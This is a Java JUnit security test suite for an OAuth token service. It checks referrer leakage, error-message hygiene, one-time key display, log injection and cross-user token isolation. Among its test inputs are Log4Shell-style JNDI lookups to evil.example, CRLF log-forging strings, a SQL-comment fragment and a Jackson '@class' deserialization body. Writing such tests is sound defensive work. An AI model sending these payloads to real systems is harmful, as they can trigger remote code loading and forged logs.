package dev.concierge.server.secrets;

import static org.assertj.core.api.Assertions.assertThat;

import dev.concierge.sandbox.Knobs;
import dev.concierge.server.support.Api;
import dev.concierge.server.support.Browser;
import dev.concierge.server.support.Page;
import dev.concierge.server.support.ShownKey;
import dev.concierge.server.support.Visitor;
import dev.concierge.server.support.World;
import java.net.URI;
import java.net.http.HttpClient;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.json.JsonMapper;

/** What answers give away: addresses, errors, keys, tokens of others (G-02, G-04, G-05, G-07, D-08, D-09). */
@Tag("security")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class AnswersTest {
    private static final Set<String> INSIDES = Set.of(
            "Exception",
            "java.",
            "org.springframework",
            "dev.concierge",
            "jackson",
            "postgres",
            "select ",
            "insert ",
            "Tomcat",
            "at line",
            "stackTrace");

    private Captured log;
    private World world;
    private HttpClient http;
    private Visitor ada;
    private String key;
    private Api api;

    @BeforeAll
    void start() {
        log = new Captured();
        world = World.start(
                1, Map.of("concierge.identity.sign-up-burst", "1000", "concierge.identity.sign-in-burst", "1000"));
        http = HttpClient.newHttpClient();
        ada = world.visitor().signUp();
        key = ada.apiKey("tokens:vend", "integrations:read", "integrations:write");
        api = new Api(http, world.server(), world.url("/"), key);
    }

    @AfterAll
    void stop() {
        http.close();
        world.close();
        log.close();
    }

    @Test
    @DisplayName("G-02 no page leaves a secret in the address bar, sends a referrer, or loads anything from elsewhere")
    void no_page_leaves_a_secret_in_the_address_bar_or_loads_anything_from_elsewhere() {
        List<Page> pages = new ArrayList<>();
        pages.add(ada.connect(Visitor.LINH_WORK));
        for (String path : List.of("/", "/integrations", "/security", "/problems", "/login")) {
            pages.add(ada.open(path));
        }
        pages.add(ada.browser()
                .get(world.url("/api/v1/oauth/google/callback?state=x&code=y"), Map.of("Accept", "text/html")));
        pages.add(ada.browser().get(world.url("/auth/callback/google?state=x&code=y"), Map.of("Accept", "text/html")));
        String ticket = api.post("/api/v1/oauth/google/authorize", "{}")
                .json()
                .path("authorizationUrl")
                .asString();
        Page asked = ada.open(URI.create(ticket).getPath());
        assertThat(asked.status()).isEqualTo(200);
        pages.add(asked);
        pages.add(world.visitor().open(URI.create(ticket).getPath()));
        pages.add(ada.browser().submitOnly(asked, "form[action='" + asked.path() + "'], form:not([action])", Map.of()));
        for (Page page : pages) {
            assertThat(page.headers().firstValue("Referrer-Policy"))
                    .as(page.path())
                    .hasValue(page.path().startsWith("/connect/") ? "strict-origin" : "same-origin");
            assertThat(page.document().select("meta[name=referrer], [referrerpolicy]"))
                    .as("nothing on %s takes that back", page.path())
                    .isEmpty();
            assertThat(page.document().select("script[src], link[href], img[src], iframe, object, embed, form[action]"))
                    .allSatisfy(part -> {
                        String target = part.hasAttr("src")
                                ? part.attr("src")
                                : part.hasAttr("href") ? part.attr("href") : part.attr("action");
                        assertThat(URI.create(target).getHost())
                                .as("%s on %s", target, page.path())
                                .isNull();
                    });
        }
        assertThat(pages.getFirst().uri().getQuery()).doesNotContain("state").doesNotContain("code");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{",
                "[]",
                "null",
                "\"text\"",
                "{\"scopes\":5}",
                "{\"scopes\":{\"a\":1}}",
                "{\"unknown\":1}",
                "{\"scopes\":[1e999]}",
                "{\"@class\":\"java.util.HashMap\"}",
                "{\"scopes\":[\"\\u0000\"]}",
                "{\"scopes\":[],\"scopes\":[]}"
            })
    @DisplayName("G-04 a body is broken, of another type, or has a field that is none")
    void a_body_is_broken(String body) {
        tidy(api.post("/api/v1/oauth/google/authorize", body), body.equals("null") ? 200 : 400, 403);
    }

    @Test
    @DisplayName("G-04 deep nesting, huge numbers, wrong types, odd parameters, debug switches")
    void odd_requests_get_tidy_answers() {
        tidy(api.post("/api/v1/oauth/google/authorize", "[".repeat(20_000)), 400, 413);
        tidy(api.get("/api/v1/oauth/integrations?limit=99999999999999999999"), 400, 400);
        tidy(api.get("/api/v1/oauth/integrations?limit=-1"), 400, 400);
        tidy(api.get("/api/v1/oauth/integrations?state=%27%3B--"), 400, 400);
        tidy(api.get("/api/v1/oauth/integrations?cursor=%00"), 400, 400);
        tidy(api.get("/api/v1/oauth/integrations/not-an-id"), 404, 404);
        tidy(api.get("/api/v1/nothing?trace=true&debug=1"), 404, 404);
        tidy(api.send("PUT", "/api/v1/oauth/integrations", "{}"), 405, 405);
        tidy(api.get("/api/v1/oauth/integrations/" + UUID.randomUUID() + "/token?minTtl=P99999999D"), 400, 400);
        tidy(api.get("/api/v1/oauth/integrations/" + UUID.randomUUID() + "/token?minTtl=x"), 400, 400);
        for (String form : List.of("text/html", "application/json", "application/xml", "*/*", "a/b;;;")) {
            Page page = ada.browser().get(world.url("/nothing?trace=true"), Map.of("Accept", form, "X-Debug", "1"));
            assertThat(page.status()).isBetween(400, 406);
            INSIDES.forEach(inside -> assertThat(page.body()).doesNotContain(inside));
        }
    }

    @Test
    @DisplayName("G-05 an API key is looked for after it was shown")
    void a_key_is_shown_once() {
        Visitor bob = world.visitor().signUp();
        String made = bob.apiKey("integrations:read");
        assertThat(bob.open("/security").body()).doesNotContain(made).contains(made.substring(0, 8));
        Page list = bob.browser().get(world.url("/api/v1/me/api-keys"), Map.of());
        assertThat(list.body()).doesNotContain(made).contains(made.substring(0, 8));
        assertThat(list.headers().firstValue("Cache-Control"))
                .hasValueSatisfying(value -> assertThat(value).contains("no-store"));
        assertThat(bob.open("/security").headers().firstValue("Cache-Control"))
                .hasValueSatisfying(value -> assertThat(value).contains("no-store"));
    }

    @Test
    @DisplayName("G-07 line breaks, escapes, look-ups and a megabyte are put where a log line could pick them up")
    void a_stranger_writes_into_the_log() {
        String bait = "\u001b[31mbait\u202e${jndi:ldap://evil.example/a}{\"level\":\"ERROR\"}";
        Map<String, String> headers = new HashMap<>();
        headers.put("User-Agent", "bait ${jndi:ldap://evil.example/a} {\"level\":\"ERROR\"}");
        headers.put("X-Request-Id", "bait%0d%0aforged line");
        headers.put("Accept", "text/html");
        ada.browser().get(world.url("/integrations?news=" + encoded(bait + "\r\nforged line")), headers);
        ada.browser().get(world.url("/nothing/" + encoded("bait\r\nforged line").replace("+", "%20")), headers);
        Page login = world.visitor().browser().open(world.url("/login"));
        world.visitor()
                .browser()
                .submit(
                        login,
                        "form[action='/login']",
                        Map.of("email", "a\r\nforged line@x.example", "password", bait));
        api.post("/api/v1/oauth/google/authorize", "{\"scopes\":[\"bait\\r\\nforged line\"]}");
        api.get("/api/v1/oauth/google/callback?error=" + encoded(bait) + "&error_description="
                + encoded("x\r\nforged line"));

        world.sandbox()
                .knobs()
                .set(
                        Knobs.ID_TOKEN_CLAIMS,
                        JsonMapper.builder()
                                .build()
                                .createObjectNode()
                                .put("email", bait + "\r\nforged line@x.example")
                                .put("name", bait + "\r\nforged line"));
        ada.connect(Visitor.LINH_HOME);
        world.sandbox().knobs().resetAll();

        assertThat(log.text().lines()).noneMatch(line -> line.startsWith("forged line"));
        assertThat(log.text()).doesNotContain("\u001b[31mbait").doesNotContain("\u202e");
        assertThat(log.text().lines()).allMatch(line -> line.length() < 20_000);
    }

    @Test
    @DisplayName("D-08 two hundred callers ask for twenty people's tokens at once: nobody gets another's")
    void two_hundred_callers_get_their_own_tokens() throws Exception {
        record Someone(Api api, UUID integration, Set<String> own) {}
        List<Someone> people = new ArrayList<>();
        for (int i = 0; i < 20; i++) {
            Visitor visitor = world.visitor().signUp();
            UUID integration = visitor.connected(Visitor.LINH_WORK);
            Api own = new Api(http, world.server(), world.url("/"), visitor.apiKey("tokens:vend"));
            people.add(new Someone(own, integration, Set.of(token(own, integration))));
        }
        try (ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor()) {
            List<Callable<Boolean>> asked = new ArrayList<>();
            for (int i = 0; i < 200; i++) {
                Someone someone = people.get(i % people.size());
                asked.add(() -> someone.own().contains(token(someone.api(), someone.integration())));
            }
            for (Future<Boolean> answer : threads.invokeAll(asked)) {
                assertThat(answer.get()).isTrue();
            }
        }
        assertThat(people.stream().flatMap(one -> one.own().stream()).distinct())
                .as("twenty different tokens")
                .hasSize(20);
        Someone first = people.getFirst();
        String upper = first.integration().toString().toUpperCase(java.util.Locale.ROOT);
        assertThat(people.get(1)
                        .api()
                        .get("/api/v1/oauth/integrations/" + upper + "/token")
                        .status())
                .isEqualTo(404);
        world.advance(Duration.ofMinutes(1));
    }

    @Test
    @DisplayName("D-09 a key without the right to take tokens, and a session, ask for one; and for what nobody gets")
    void a_key_without_the_right_asks_for_a_token_and_for_more() {
        Visitor bob = world.visitor().signUp();
        UUID integration = bob.connected(Visitor.LINH_HOME);
        Api reader = new Api(http, world.server(), world.url("/"), bob.apiKey("integrations:read"));
        Api taker = new Api(http, world.server(), world.url("/"), secondKey(bob));
        String path = "/api/v1/oauth/integrations/" + integration;

        assertThat(reader.token(integration).status()).isEqualTo(403);
        assertThat(bob.browser().get(world.url(path + "/token"), Map.of()).status())
                .isBetween(401, 403);
        Api.Answer vend =
                taker.get(path + "/token?fields=refreshToken,idToken,clientSecret&expand=grant&include=refresh_token");
        assertThat(vend.status()).isEqualTo(200);
        assertThat(vend.json().propertyNames())
                .containsExactlyInAnyOrder("accessToken", "tokenType", "expiresAt", "scopes");
        assertThat(vend.raw().headers().firstValue("Cache-Control")).hasValue("no-store");
        Api.Answer look = reader.get(path + "?expand=grant&fields=*");
        assertThat(look.status()).isEqualTo(200);
        SecretSearch search = new SecretSearch();
        world.sandbox()
                .secrets()
                .all()
                .forEach(secret -> search.add(secret.kind().json(), secret.value()));
        assertThat(search.in(look.raw().body())).isEmpty();
        assertThat(search.in(bob.open("/integrations/" + integration).body())).isEmpty();
    }

    /** A key that may take tokens, under another name than the first. */
    private String secondKey(Visitor visitor) {
        List<Browser.Field> fields = List.of(
                new Browser.Field("name", "another"),
                new Browser.Field("scope", "tokens:vend"),
                new Browser.Field("days", "90"));
        Page made = visitor.browser().submitExactly(visitor.open("/security"), "form[action='/security/keys']", fields);
        return ShownKey.in(made.body());
    }

    private static String token(Api api, UUID integration) {
        Api.Answer answer = api.token(integration);
        assertThat(answer.status()).isEqualTo(200);
        return answer.json().path("accessToken").asString();
    }

    private static void tidy(Api.Answer answer, int status, int orStatus) {
        assertThat(answer.status()).as(answer.raw().body()).isIn(status, orStatus);
        if (answer.status() >= 400) {
            assertThat(answer.raw().headers().firstValue("Content-Type"))
                    .hasValueSatisfying(type -> assertThat(type).startsWith("application/problem+json"));
            assertThat(answer.json().path("instance").asString()).startsWith("urn:request:");
            INSIDES.forEach(inside -> assertThat(answer.raw().body()).doesNotContain(inside));
        }
    }

    private static String encoded(String text) {
        return Browser.encode(List.of(new Browser.Field("x", text))).substring(2);
    }
}
